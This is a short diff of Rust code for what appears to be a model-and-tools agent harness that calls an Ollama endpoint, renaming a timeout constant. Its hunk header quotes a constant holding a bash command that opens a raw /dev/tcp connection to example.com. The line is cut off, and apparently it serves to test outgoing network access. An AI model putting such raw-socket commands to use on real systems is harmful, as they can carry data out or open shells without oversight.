@@ -19,7 +19,7 @@ pub const OUTGOING: &str = "bash -c 'exec 3<>/dev/tcp/example.com/80 && \
 /// Rounds of model and tools at most.
 const MOST_ROUNDS: usize = 12;
 /// How long a model may think.
-const PATIENCE: Duration = Duration::from_secs(300);
+const TIMEOUT: Duration = Duration::from_secs(300);
 /// Characters of a tool's result that are logged.
 const SHOWN: usize = 300;
 /// What the model is asked to do.
@@ -123,7 +123,7 @@ fn ask(arguments: &OllamaArguments, messages: &[Value], tools: &Value) -> Result
         return Err(format!("{url} is not an http:// address"));
     }
     let body = json!({"model": arguments.model, "messages": messages, "tools": tools, "stream": false});
-    let agent = ureq::Agent::config_builder().timeout_global(Some(PATIENCE)).http_status_as_error(false).build();
+    let agent = ureq::Agent::config_builder().timeout_global(Some(TIMEOUT)).http_status_as_error(false).build();
     let sent = ureq::Agent::new_with_config(agent)
         .post(&url)
         .header("content-type", "application/json")
